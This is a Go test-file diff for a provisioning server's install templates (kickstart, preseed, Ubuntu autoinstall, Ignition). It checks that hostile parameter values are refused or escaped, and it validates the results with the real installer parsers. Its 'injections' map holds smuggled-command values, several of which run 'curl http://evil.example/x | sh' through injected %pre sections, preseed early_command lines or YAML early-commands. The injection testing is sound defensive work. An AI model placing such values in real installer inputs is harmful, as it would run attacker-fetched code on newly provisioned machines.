@@ -4,6 +4,7 @@ import (
 	"encoding/json"
 	"errors"
 	"fmt"
+	"maps"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -248,6 +249,13 @@ func renderStock(t *testing.T, name string, params map[string]string) string {
 
 func renderStockWith(t *testing.T, s *Server, name string, params map[string]string) string {
 	t.Helper()
+	out, err := renderStockErr(s, name, params)
+	require.NoError(t, err)
+	return out
+}
+
+// renderStockErr is renderStockWith for a render that may be refused.
+func renderStockErr(s *Server, name string, params map[string]string) (string, error) {
 	m := provisioningMachine(params)
 	m.Run.ID, m.Run.Token = "run-7", testToken
 	m.Cluster, m.Role = "c1", "worker"
@@ -256,9 +264,10 @@ func renderStockWith(t *testing.T, s *Server, name string, params map[string]str
 	members := map[string]*model.Machine{"cp1": {Name: "cp1", Status: model.Status{Addresses: []string{"10.0.2.15"}, Phase: model.PhaseProvisioned}}, "m1": m}
 	p := &model.BootProfile{Name: "p1", Kernel: "vmlinuz", Templates: map[string]string{name: StockPrefix + name}}
 	out, found, err := s.renderTemplate(renderInput{machine: m, profile: p, cluster: cluster, members: members, token: testToken}, name)
-	require.NoError(t, err)
-	require.True(t, found)
-	return out
+	if err == nil && !found {
+		err = fmt.Errorf("stock template %q not found", name)
+	}
+	return out, err
 }
 
 const (
@@ -286,28 +295,35 @@ var stockCases = []stockCase{
 		name: "kickstart", template: "kickstart", format: "kickstart",
 		params: map[string]string{"repo_url": "http://mirror.example/rocky/9/BaseOS/x86_64/os/",
 			"appstream_url": "http://mirror.example/rocky/9/AppStream/x86_64/os/", "root_password_hash": sha512pw,
-			"timezone": "Europe/Berlin", "disk": "sda", "ssh_authorized_key": sshKey},
+			"timezone": "Europe/Berlin", "disk": "sda", "ssh_authorized_key": sshKey, "proxy": "http://proxy.example:3128",
+			"ntp_servers": "0.pool.ntp.org" /* one: a hostile value replaces it with one, and a list's length is its meaning */, "post_install": "echo 'done' > /root/marker"},
 		validators: []string{"pykickstart"},
-		contains: []string{"url --url=http://mirror.example/rocky/9/BaseOS/x86_64/os/\n", "repo --name=AppStream --baseurl=http://mirror.example/rocky/9/AppStream/x86_64/os/\n",
-			"ignoredisk --only-use=sda\n", "\ncurl\n%end", "%post --log=", `"` + cbURL + `"`, "%onerror --interpreter=/usr/bin/python3", `"status": "failed"`},
+		contains: []string{`url --url="http://mirror.example/rocky/9/BaseOS/x86_64/os/" --proxy="http://proxy.example:3128"` + "\n",
+			`repo --name=AppStream --baseurl="http://mirror.example/rocky/9/AppStream/x86_64/os/" --proxy="http://proxy.example:3128"` + "\n",
+			`ignoredisk --only-use="sda"` + "\n", `timesource --ntp-server="0.pool.ntp.org"` + "\n", `sh -c 'echo '\''done'\'' > /root/marker'`, "\ncurl\n%end", "%post --log=", `"` + cbURL + `"`, "%onerror --interpreter=/usr/bin/python3", `"status": "failed"`},
 		cmdlines: [][]string{{"inst.ks=" + tmplBase + "kickstart?token=" + testToken, " inst.repo=http://mirror.example/rocky/9/BaseOS/x86_64/os/ ", " ip=dhcp ", " inst.text "}},
 	},
 	{
 		name: "preseed", template: "preseed", format: "preseed",
 		params: map[string]string{"root_password_hash": sha512pw, "domain": "lab.example", "mirror": "ftp.de.debian.org",
-			"mirror_directory": "/debian", "timezone": "Europe/Berlin", "disk": "/dev/vda"},
+			"mirror_directory": "/debian", "timezone": "Europe/Berlin", "disk": "/dev/vda", "proxy": "http://proxy.example:3128",
+			"ntp_servers": "0.pool.ntp.org, 1.pool.ntp.org", "ssh_authorized_key": sshKey, "post_install": "echo 'done' > /root/marker"},
 		validators: []string{"debconf"},
 		contains: []string{"d-i partman-lvm/device_remove_lvm boolean true\n", "d-i partman-md/device_remove_md boolean true\n",
 			"d-i partman-lvm/confirm boolean true\n", "d-i partman-lvm/confirm_nooverwrite boolean true\n", "d-i partman/confirm_nooverwrite boolean true\n",
-			"d-i partman-auto/disk string /dev/vda\n", "d-i pkgsel/include string curl\n", "d-i preseed/late_command string in-target sh -c '", `"` + cbURL + `"'`},
+			"d-i partman-auto/disk string /dev/vda\n", "d-i pkgsel/include string curl\n", "d-i mirror/http/proxy string http://proxy.example:3128\n",
+			"d-i clock-setup/ntp-server string 0.pool.ntp.org\n", "d-i preseed/late_command string in-target sh -c '", `"` + cbURL + `"'`},
 		cmdlines: [][]string{{"auto=true priority=critical url=" + tmplBase + "preseed?token=" + testToken + " ", " interface=auto ", " hostname=m1 ", " domain=lab.example ", " netcfg/hostname=m1 "}},
 	},
 	{
 		name: "ubuntu-autoinstall", template: "ubuntu-autoinstall", format: "yaml",
 		params: map[string]string{"iso_url": "http://mirror.example/ubuntu/ubuntu-24.04.1-live-server-amd64.iso",
-			"password_hash": sha512pw, "username": "ops", "ssh_authorized_key": sshKey, "disk": "/dev/vda"},
+			"password_hash": sha512pw, "username": "ops", "ssh_authorized_key": sshKey, "disk": "/dev/vda",
+			"apt_mirror": "http://archive.ubuntu.com/ubuntu", "proxy": "http://proxy.example:3128", "ntp_servers": "0.pool.ntp.org, 1.pool.ntp.org",
+			"post_install": "echo 'done' > /root/marker"},
 		validators: []string{"cloud-init", "autoinstall"},
-		contains:   []string{"  packages:\n    - curl\n", "curtin in-target -- sh -c", `"` + cbURL + `"'`},
+		contains: []string{"  packages:\n    - curl\n", "curtin in-target -- sh -c", `"` + cbURL + `"'`, `proxy: "http://proxy.example:3128"`,
+			`uri: "http://archive.ubuntu.com/ubuntu"`, `servers: ["0.pool.ntp.org","1.pool.ntp.org"]`},
 		cmdlines: [][]string{{"ip=dhcp url=http://mirror.example/ubuntu/ubuntu-24.04.1-live-server-amd64.iso autoinstall ",
 			" ds=nocloud-net;s=" + tmplBase + "%s?token=" + testToken + " ", " cloud-config-url=/dev/null "}},
 	},
@@ -474,39 +490,6 @@ func hostileValues(format string) map[string]string {
 	}
 }
 
-// issue17 lists the hostile renders that break a template today. Issue 17
-// (context-aware escaping in render.go) fixes them; each skipped subtest
-// then passes once its line is deleted here.
-var issue17 = map[string]string{
-	"kickstart/appstream_url/newline-directive":      "a newline in a param starts a %pre section in the kickstart",
-	"kickstart/appstream_url/quotes":                 "a quote in a kickstart option value is unbalanced for pykickstart's shlex",
-	"kickstart/appstream_url/controls":               "a tab in a kickstart option value splits it into extra arguments",
-	"kickstart/disk/newline-directive":               "a newline in a param starts a %pre section in the kickstart",
-	"kickstart/disk/quotes":                          "a quote in a kickstart option value is unbalanced for pykickstart's shlex",
-	"kickstart/disk/controls":                        "a tab in a kickstart option value splits it into extra arguments",
-	"kickstart/repo_url/newline-directive":           "a newline in a param starts a %pre section in the kickstart",
-	"kickstart/repo_url/quotes":                      "a quote in a kickstart option value is unbalanced for pykickstart's shlex",
-	"kickstart/repo_url/controls":                    "a tab in a kickstart option value splits it into extra arguments",
-	"kickstart/root_password_hash/newline-directive": "a newline in a param starts a %pre section in the kickstart",
-	"kickstart/root_password_hash/quotes":            "a quote in a kickstart option value is unbalanced for pykickstart's shlex",
-	"kickstart/root_password_hash/controls":          "a tab in a kickstart option value splits it into extra arguments",
-	"kickstart/timezone/newline-directive":           "a newline in a param starts a %pre section in the kickstart",
-	"kickstart/timezone/quotes":                      "a quote in a kickstart option value is unbalanced for pykickstart's shlex",
-	"kickstart/timezone/controls":                    "a tab in a kickstart option value splits it into extra arguments",
-	"preseed/disk/newline-directive":                 "a newline in a param adds a d-i line (preseed/early_command) to the preseed",
-	"preseed/domain/newline-directive":               "a newline in a param adds a d-i line (preseed/early_command) to the preseed",
-	"preseed/mirror/newline-directive":               "a newline in a param adds a d-i line (preseed/early_command) to the preseed",
-	"preseed/mirror_directory/newline-directive":     "a newline in a param adds a d-i line (preseed/early_command) to the preseed",
-	"preseed/root_password_hash/newline-directive":   "a newline in a param adds a d-i line (preseed/early_command) to the preseed",
-	"preseed/timezone/newline-directive":             "a newline in a param adds a d-i line (preseed/early_command) to the preseed",
-	"ubuntu-autoinstall/disk/controls":               "toJSON leaves DEL and C1 controls raw, and YAML refuses them",
-	"ubuntu-autoinstall/password_hash/controls":      "toJSON leaves DEL and C1 controls raw, and YAML refuses them",
-	"ubuntu-autoinstall/ssh_authorized_key/controls": "toJSON leaves DEL and C1 controls raw, and YAML refuses them",
-	"ubuntu-autoinstall/username/controls":           "toJSON leaves DEL and C1 controls raw, and YAML refuses them",
-	"cloud-init-image/ssh_authorized_key/controls":   "toJSON leaves DEL and C1 controls raw, and YAML refuses them",
-	"lab-user-data/role_note/controls":               "toJSON leaves DEL and C1 controls raw, and YAML refuses them",
-}
-
 // structure is what a param value must not change in a document: its
 // directives (kickstart commands and sections, preseed questions) or,
 // for YAML and JSON, its key paths.
@@ -576,17 +559,18 @@ func TestStockTemplatesHostileParams(t *testing.T) {
 			slices.Sort(keys)
 			for _, k := range keys {
 				for vname, v := range hostileValues(c.format) {
-					id := c.name + "/" + k + "/" + vname
 					t.Run(k+"/"+vname, func(t *testing.T) {
-						if why, ok := issue17[id]; ok {
-							t.Skip("issue 17: " + why)
-						}
-						params := map[string]string{}
-						for pk, pv := range c.params {
-							params[pk] = pv
-						}
+						params := maps.Clone(c.params)
 						params[k] = v
-						doc := renderStock(t, c.template, params)
+						doc, err := renderStockErr(testRenderServer(t), c.template, params)
+						if err != nil {
+							// A value the template cannot hold is refused
+							// naming the param and the template, never
+							// rendered.
+							assert.Contains(t, err.Error(), `param "`+k+`"`)
+							assert.Contains(t, err.Error(), `template "`+c.template+`"`)
+							return
+						}
 						for _, name := range c.validators {
 							mu.Lock()
 							validate, ok := validators[name]
@@ -603,5 +587,322 @@ func TestStockTemplatesHostileParams(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+// ksParsed is what testdata/ksdump.py reports of a kickstart.
+type ksParsed struct {
+	Error    string   `json:"error"`
+	Commands []string `json:"commands"`
+	Scripts  [][]any  `json:"scripts"`
+	Timezone string   `json:"timezone"`
+	OnlyUse  []string `json:"onlyuse"`
+	RootPW   string   `json:"rootpw"`
+	URL      string   `json:"url"`
+	Repos    []string `json:"repos"`
+	Proxy    string   `json:"proxy"`
+	SSHKeys  []string `json:"sshkeys"`
+	NTP      []string `json:"ntp"`
+}
+
+// pykickstartParse parses each text with pykickstart (RHEL9) in one
+// interpreter and returns what it parsed, or the parse error, per text.
+func pykickstartParse(t *testing.T, texts ...string) []ksParsed {
+	t.Helper()
+	dir, py := filepath.Join(validatorsDir(t), "pykickstart"), python(t)
+	args := []string{filepath.Join("testdata", "ksdump.py")}
+	tmp := t.TempDir()
+	for i, text := range texts {
+		f := filepath.Join(tmp, fmt.Sprintf("ks%d.cfg", i))
+		require.NoError(t, os.WriteFile(f, []byte(text), 0o600))
+		args = append(args, f)
+	}
+	cmd := exec.Command(py, args...)
+	cmd.Env = append(os.Environ(), "PYTHONPATH="+dir)
+	out, err := cmd.CombinedOutput()
+	require.NoError(t, err, "%s", out)
+	lines := strings.Split(strings.TrimSpace(string(out)), "\n")
+	require.Len(t, lines, len(texts), out)
+	res := make([]ksParsed, len(texts))
+	for i, l := range lines {
+		require.NoError(t, json.Unmarshal([]byte(l), &res[i]), l)
+	}
+	return res
+}
+
+// debconfQuestions parses a preseed as debconf-set-selections does (one
+// "owner question type value" per line; '#' comments; a trailing
+// backslash continues the line) into question -> value.
+func debconfQuestions(text string) map[string]string {
+	out := map[string]string{}
+	var pending string
+	for _, line := range strings.Split(text, "\n") {
+		if strings.HasSuffix(line, `\`) {
+			pending += strings.TrimSuffix(line, `\`)
+			continue
+		}
+		line, pending = pending+line, ""
+		line = strings.TrimLeft(line, " \t")
+		if line == "" || strings.HasPrefix(line, "#") {
+			continue
+		}
+		f := strings.SplitN(line, " ", 4)
+		if len(f) < 3 {
+			out["malformed:"+line] = ""
+			continue
+		}
+		v := ""
+		if len(f) == 4 {
+			v = f[3]
+		}
+		out[f[1]] = v
+	}
+	return out
+}
+
+// autoinstallSchema validates each autoinstall section against
+// subiquity's JSON schema, in one interpreter.
+func autoinstallSchema(t *testing.T, sections ...map[string]any) {
+	t.Helper()
+	schema, py := filepath.Join(validatorsDir(t), "autoinstall-schema.json"), python(t)
+	if _, err := os.Stat(schema); err != nil {
+		missingValidator(t, "%s", err)
+	}
+	b, err := json.Marshal(sections)
+	require.NoError(t, err)
+	out, err := exec.Command(py, "-c",
+		"import json,sys,jsonschema\ns=json.load(open(sys.argv[1]))\nfor d in json.load(open(sys.argv[2])): jsonschema.Draft7Validator(s).validate(d)",
+		schema, writeDoc(t, "autoinstall.json", string(b))).CombinedOutput()
+	require.NoError(t, err, "an autoinstall section breaks subiquity's schema:\n%s\n%s", out, b)
+}
+
+func keysOf(m map[string]any) []string {
+	out := make([]string, 0, len(m))
+	for k := range m {
+		out = append(out, k)
+	}
+	slices.Sort(out)
+	return out
+}
+
+// stockInput renders every stock template for machine m1 with params.
+func stockInput(params map[string]string) renderInput {
+	m := provisioningMachine(params)
+	tm := map[string]string{}
+	for _, n := range StockTemplates() {
+		tm[n] = StockPrefix + n
+	}
+	return renderInput{machine: m, profile: &model.BootProfile{Name: "p1", Kernel: "vmlinuz", Templates: tm}, token: "tok"}
+}
+
+// benign is a param value every stock template accepts; the baseline
+// renders each param with it.
+const benign = "ok.example"
+
+var stockParams = []string{"root_password_hash", "password_hash", "username", "timezone", "disk", "repo_url", "appstream_url",
+	"mirror", "mirror_directory", "apt_mirror", "domain", "proxy", "ntp_servers", "ssh_authorized_key", "post_install"}
+
+func baseParams() map[string]string {
+	p := map[string]string{}
+	for _, k := range stockParams {
+		p[k] = benign
+	}
+	return p
+}
+
+// shellWord evaluates one shell word the way sh would and returns it.
+func shellWord(t *testing.T, word string) string {
+	t.Helper()
+	out, err := exec.Command("sh", "-c", `eval "set -- $1"; [ $# -eq 1 ] || { echo "$# words"; exit 1; }; printf %s "$1"`, "sh", word).CombinedOutput()
+	require.NoError(t, err, "%s is not one shell word: %s", word, out)
+	return string(out)
+}
+
+// injCase is one param value rendered into one stock template.
+type injCase struct {
+	tmpl, param, what, value string
+	out                      string // "" when refused
+}
+
+// checkAccepted asserts, with the installer's parser, that c.out has the
+// baseline's structure and that c.param's value arrives unchanged. ks is
+// pykickstart's parse of c.out for kickstarts.
+func checkAccepted(t *testing.T, c injCase, base string, ks, ksBase ksParsed) {
+	param, value, out := c.param, c.value, c.out
+	switch c.tmpl {
+	case "kickstart":
+		require.Empty(t, ks.Error, "pykickstart refuses the kickstart:\n%s", out)
+		require.Equal(t, ksBase.Commands, ks.Commands, "a param added or removed a kickstart command:\n%s", out)
+		require.Len(t, ks.Scripts, len(ksBase.Scripts), "a param added a kickstart script:\n%s", out)
+		fields := map[string]string{"timezone": ks.Timezone, "root_password_hash": ks.RootPW, "repo_url": ks.URL, "proxy": ks.Proxy}
+		if len(ks.OnlyUse) == 1 {
+			fields["disk"] = ks.OnlyUse[0]
+		}
+		if len(ks.Repos) == 1 {
+			fields["appstream_url"] = ks.Repos[0]
+		}
+		if len(ks.SSHKeys) == 1 {
+			fields["ssh_authorized_key"] = ks.SSHKeys[0]
+		}
+		if param == "post_install" {
+			for _, sc := range ks.Scripts {
+				if w, ok := strings.CutPrefix(sc[1].(string), "sh -c "); ok {
+					fields["post_install"] = shellWord(t, strings.TrimSuffix(w, "\n"))
+				}
+			}
+		}
+		if v, ok := fields[param]; ok {
+			require.Equal(t, value, v, "%s did not arrive unchanged:\n%s", param, out)
+		}
+	case "preseed":
+		want, got := debconfQuestions(base), debconfQuestions(out)
+		require.Equal(t, keysOfString(want), keysOfString(got), "a param added or removed a preseed question:\n%s", out)
+		q := map[string]string{"domain": "netcfg/get_domain", "mirror": "mirror/http/hostname", "mirror_directory": "mirror/http/directory", "root_password_hash": "passwd/root-password-crypted",
+			"timezone": "time/zone", "disk": "partman-auto/disk", "proxy": "mirror/http/proxy"}
+		if k, ok := q[param]; ok {
+			require.Equal(t, value, got[k], "%s did not arrive unchanged:\n%s", param, out)
+		}
+	case "ubuntu-autoinstall":
+		var want, got map[string]any
+		require.NoError(t, yaml.Unmarshal([]byte(base), &want))
+		require.NoError(t, yaml.Unmarshal([]byte(out), &got), "not YAML:\n%s", out)
+		require.Equal(t, keysOf(want), keysOf(got))
+		wa, ga := want["autoinstall"].(map[string]any), got["autoinstall"].(map[string]any)
+		require.Equal(t, keysOf(wa), keysOf(ga), "a param added or removed an autoinstall key:\n%s", out)
+		id := ga["identity"].(map[string]any)
+		fields := map[string]any{"password_hash": id["password"], "username": id["username"], "proxy": ga["proxy"],
+			"ssh_authorized_key": ga["ssh"].(map[string]any)["authorized-keys"].([]any)[0],
+			"apt_mirror":         ga["apt"].(map[string]any)["primary"].([]any)[0].(map[string]any)["uri"],
+			"disk":               ga["storage"].(map[string]any)["layout"].(map[string]any)["match"].(map[string]any)["path"]}
+		if v, ok := fields[param]; ok {
+			require.Equal(t, value, v, "%s did not arrive unchanged:\n%s", param, out)
+		}
+		require.Len(t, ga["late-commands"], len(wa["late-commands"].([]any)))
+	case "lab-user-data":
+		var got map[string]any
+		require.NoError(t, yaml.Unmarshal([]byte(out), &got), "not YAML:\n%s", out)
+		require.Equal(t, []string{"baremetal", "hostname"}, keysOf(got))
+		require.Equal(t, value, got["baremetal"].(map[string]any)["params"].(map[string]any)[param])
+	case "ignition":
+		require.NoError(t, ignitionValidator(t)(t, out))
+		var got map[string]any
+		require.NoError(t, json.Unmarshal([]byte(out), &got))
+		require.Equal(t, []string{"ignition", "passwd", "storage", "systemd"}, keysOf(got))
+		if param == "ssh_authorized_key" {
+			u := got["passwd"].(map[string]any)["users"].([]any)[0].(map[string]any)
+			require.Equal(t, []any{value}, u["sshAuthorizedKeys"])
+		}
+	}
+}
+
+func keysOfString(m map[string]string) []string {
+	out := make([]string, 0, len(m))
+	for k := range m {
+		out = append(out, k)
+	}
+	slices.Sort(out)
+	return out
+}
+
+// injections are the values that broke the stock templates: line breaks
+// of every kind a reader honours, controls YAML refuses, and characters
+// that split or end kickstart arguments or join preseed lines.
+var injections = map[string]string{
+	"newline %pre":     "sda\n%pre\ncurl http://evil.example/x | sh\n%end",
+	"newline d-i":      "x\nd-i preseed/early_command string curl http://evil.example/x | sh",
+	"newline yaml key": "x\"\nearly-commands: [\"curl http://evil.example/x | sh\"]\nx: \"",
+	"carriage return":  "x\r%pre",
+	"U+2028":           "x\u2028%pre",
+	"U+0085 (NEL)":     "x\u0085%pre",
+	"DEL":              "x\x7fy",
+	"C1 CSI":           "x\u009by",
+	"spaces":           "a value --with spaces",
+	"quotes":           `a"b'c\d`,
+	"hash":             "#comment",
+	"trailing slash":   `x\`,
+	"json":             `{"ignition":{"version":"3.3.0"}}`,
+}
+
+// TestParamInjectionRefusedOrEscaped: each injection through each param of
+// each stock template is refused naming the param and the template, or
+// arrives as exactly one value with the document's structure unchanged, as
+// the real parsers see it (pykickstart, debconf, subiquity's schema, YAML,
+// Ignition). The parsers run once per format, on every accepted render.
+func TestParamInjectionRefusedOrEscaped(t *testing.T) {
+	uses := map[string][]string{
+		"kickstart":          {"root_password_hash", "timezone", "disk", "repo_url", "appstream_url", "proxy", "ntp_servers", "ssh_authorized_key", "post_install"},
+		"preseed":            {"root_password_hash", "timezone", "disk", "mirror", "mirror_directory", "domain", "proxy", "ntp_servers", "ssh_authorized_key", "post_install"},
+		"ubuntu-autoinstall": {"password_hash", "username", "ssh_authorized_key", "apt_mirror", "proxy", "ntp_servers", "disk", "post_install"},
+		"lab-user-data":      {"disk", "timezone"},
+		"ignition":           {"ssh_authorized_key"},
+	}
+	s := testRenderServer(t)
+	bases := map[string]string{}
+	var cases []injCase
+	for tmpl, params := range uses {
+		base, _, err := s.renderTemplate(stockInput(baseParams()), tmpl)
+		require.NoError(t, err)
+		bases[tmpl] = base
+		for _, param := range params {
+			for what, v := range injections {
+				p := baseParams()
+				p[param] = v
+				out, _, err := s.renderTemplate(stockInput(p), tmpl)
+				if err != nil {
+					require.Contains(t, err.Error(), `param "`+param+`"`, "%s/%s/%s: a refusal names the param", tmpl, param, what)
+					require.Contains(t, err.Error(), `template "`+tmpl+`"`, "%s/%s/%s: a refusal names the template", tmpl, param, what)
+					require.NotContains(t, err.Error(), "evil", "a refusal repeats the value")
+					continue
+				}
+				cases = append(cases, injCase{tmpl: tmpl, param: param, what: what, value: v, out: out})
+			}
+		}
+	}
+	// The real parsers, once per format.
+	var ksTexts []string
+	var preseeds strings.Builder
+	var sections []map[string]any
+	for _, c := range cases {
+		switch c.tmpl {
+		case "kickstart":
+			ksTexts = append(ksTexts, c.out)
+		case "preseed":
+			preseeds.WriteString(c.out)
+		case "ubuntu-autoinstall":
+			var doc map[string]any
+			require.NoError(t, yaml.Unmarshal([]byte(c.out), &doc), c.out)
+			if a, ok := doc["autoinstall"].(map[string]any); ok {
+				sections = append(sections, a)
+			}
+		}
+	}
+	require.NoError(t, debconfValidator(t)(t, preseeds.String()))
+	autoinstallSchema(t, sections...)
+	parsed := pykickstartParse(t, append([]string{bases["kickstart"]}, ksTexts...)...)
+	ksBase, ksAt := parsed[0], 1
+	require.Empty(t, ksBase.Error)
+	for _, c := range cases {
+		var ks ksParsed
+		if c.tmpl == "kickstart" {
+			ks, ksAt = parsed[ksAt], ksAt+1
+		}
+		t.Run(c.tmpl+"/"+c.param+"/"+c.what, func(t *testing.T) { checkAccepted(t, c, bases[c.tmpl], ks, ksBase) })
+	}
+}
+
+// TestLineBreakNeverRendered: where a stock template needs one line, a
+// line break is refused, never escaped into something the installer might
+// still split.
+func TestLineBreakNeverRendered(t *testing.T) {
+	s := testRenderServer(t)
+	for _, tc := range []struct{ tmpl, param string }{
+		{"kickstart", "disk"}, {"kickstart", "timezone"}, {"kickstart", "root_password_hash"}, {"kickstart", "repo_url"},
+		{"kickstart", "appstream_url"}, {"preseed", "mirror"}, {"preseed", "mirror_directory"}, {"preseed", "domain"}, {"preseed", "root_password_hash"}, {"preseed", "disk"}, {"preseed", "timezone"},
+	} {
+		params := baseParams()
+		params[tc.param] = injections["newline %pre"]
+		_, _, err := s.renderTemplate(stockInput(params), tc.tmpl)
+		require.Error(t, err, "%s/%s", tc.tmpl, tc.param)
+		require.Contains(t, err.Error(), `param "`+tc.param+`" contains a line break`)
 	}
 }
